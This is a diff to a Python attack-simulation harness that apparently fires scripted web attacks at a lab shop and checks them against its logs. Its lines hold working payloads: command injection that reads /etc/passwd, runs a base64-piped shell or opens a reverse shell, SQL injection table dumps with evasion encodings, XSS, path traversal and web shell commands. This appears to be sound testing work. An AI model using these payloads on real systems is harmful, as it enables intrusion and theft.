@@ -65,7 +65,7 @@ def burglar() -> list[Step]:
         Step("benign", "the page with the stored script", "/review/", r"<script>new Image"),
         Step("command_injection", "command run", "/ping/?host=127.0.0.1;id", IDENTITY),
         Step("command_injection", "file read by a command", f"/ping/?host={percent('127.0.0.1 | cat /etc/passwd')}", PASSWD),
-        Step("command_injection", "command run", f"/ping/?host={percent('$(whoami)')}", r"www-data|shop"),
+        Step("command_injection", "command run", f"/ping/?host={percent('$(whoami)')}", r"PING shop"),
         Step("command_injection", "a reverse shell", f"/ping/?host={percent('127.0.0.1; ' + listener)}"),
         Step("path_traversal", "file read", "/download/?file=../../../../etc/passwd", PASSWD),
         Step("path_traversal", "file read", "/download/?file=/etc/passwd", PASSWD),
@@ -86,7 +86,7 @@ def evader() -> list[Step]:
         Step("sql_injection", "table dumped, comments", f"/product/?id={percent(commented(table))}", r"admin:admin123"),
         Step("sql_injection", "table dumped, mixed case", f"/product/?id={plus(mixed_case(table))}", r"ADMIN:|admin:admin123"),
         Step("sql_injection", "table dumped, all encoded", f"/product/?id={all_of_it(table)}", r"admin:admin123"),
-        Step("sql_injection", "table dumped, line breaks", f"/product/?id={plus(table).replace('+', '%0a')}", r"admin:admin123"),
+        Step("sql_injection", "table dumped, line breaks", f"/product/?id={plus(table).replace('+', '%0a').replace('--%0a', '--+')}", r"admin:admin123"),
         Step("sql_injection", "encoded twice", f"/product/?id={twice(table)}"),
         Step("sql_injection", "time", f"/product/?id={plus('1 and 1=like(char(65,66),upper(hex(randomblob(50000000))))')}"),
         Step("xss", "handler, slash", f"/search/?q={percent('<svg/onload=alert`1`>')}", r"<svg/onload"),
@@ -98,9 +98,9 @@ def evader() -> list[Step]:
         Step("command_injection", "file read, no blanks", f"/ping/?host={percent('127.0.0.1;cat${IFS}/etc/passwd')}", PASSWD),
         Step("command_injection", "command run, line break", "/ping/?host=127.0.0.1%0aid", IDENTITY),
         Step("command_injection", "command run, quotes inside", f"/ping/?host={loose('127.0.0.1;w' + chr(39) + 'h' + chr(39) + 'oami')}",
-             r"www-data|shop"),
-        Step("command_injection", "command run, backticks", f"/ping/?host={percent('`id`')}", IDENTITY),
-        Step("command_injection", "command run, or", f"/ping/?host={plus('nowhere.invalid || id')}", IDENTITY),
+             r"^shop$"),
+        Step("command_injection", "command run, backticks", f"/ping/?host={percent('`id`')}", r"groups=\d+"),
+        Step("command_injection", "command run, and", f"/ping/?host={plus('127.0.0.1 && id')}", IDENTITY),
         Step("command_injection", "all encoded", f"/ping/?host={all_of_it('127.0.0.1;uname -a')}", r"Linux lab"),
         Step("command_injection", "a pipe into a shell", f"/ping/?host={percent('x;echo aWQ=|base64 -d|sh')}"),
         Step("path_traversal", "file read, slashes encoded", f"/download/?file={percent(climb)}", PASSWD),
@@ -179,7 +179,7 @@ def after_upload(path: str) -> list[Step]:
     return [
         Step("webshell", "web shell used", f"{path}?cmd=id", IDENTITY),
         Step("webshell", "web shell used", f"{path}?cmd={plus('cat /etc/passwd')}", PASSWD),
-        Step("webshell", "web shell used", f"{path}?cmd={percent('ls -la /home; uname -a')}", r"Linux|total|shop"),
+        Step("webshell", "web shell used", f"{path}?cmd={percent('ls -la /home; uname -a')}", r"Linux lab"),
     ]
 
 
@@ -207,7 +207,7 @@ class Hand:
         after = self.log.refresh()
         answer = browser.send(step.method, step.target, step.body.encode(), step.content, step.agent, step.referer)
         seen = f"{answer.head}\n{answer.body}"
-        worked = bool(step.proof) and re.search(step.proof, seen) is not None
+        worked = bool(step.proof) and re.search(step.proof, seen, re.MULTILINE) is not None
         self._note(browser.actor, name, step.kind, worked, step.what, answer.status, after)
 
     def _break_in(self, browser: Browser, name: str) -> None:
